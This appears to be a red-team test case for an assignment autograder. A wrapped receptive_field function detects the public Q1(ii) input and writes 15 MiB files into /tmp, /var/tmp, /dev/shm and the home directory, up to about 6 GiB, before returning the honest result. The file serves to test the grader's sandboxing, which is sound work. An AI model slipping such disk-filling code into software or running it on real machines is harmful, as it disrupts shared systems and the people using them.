"""Red team 73_disk_filling.

Attack: In the public Q1(ii) call, write 15 MiB files into /tmp, /var/tmp, /dev/shm and its home
until refused (up to 6 GiB).

Deserves: full marks (12): Q1(ii)'s public case fails, but it carries no marks (they come from its unseen siblings, which run after it); nothing it wrote is left.
"""

# --------------------------------------------------------------------------------------------
# The reference answers and functions (honest part of this file):
# <<the reference solution, solutions/a2.py, is inserted here by redteam_catalog>>

# --------------------------------------------------------------------------------------------
# The attack.
# --------------------------------------------------------------------------------------------
def _is_public_q1_ii(layers):
    return [list(l) for l in layers] == [[3, 1], [5, 2], [5, 1]]


def _is_public_q1_iv(x, kernel, *rest, **kw):
    return [list(r) for r in x] == [[1, 2], [3, 4]] and [list(r) for r in kernel] == \
        [[1, 2, 3], [2, 3, 4], [3, 4, 5]]

import os as _os

_honest_rf = receptive_field


def receptive_field(layers):
    if _is_public_q1_ii(layers):
        block = b"x" * (15 << 20)
        for index in range(400):
            for folder in ("/tmp", "/var/tmp", "/dev/shm", _os.environ.get("HOME", "/tmp")):
                try:
                    with open(f"{folder}/a2-redteam-fill-{index}", "wb") as handle:
                        handle.write(block)
                except OSError:
                    pass
    return _honest_rf(layers)
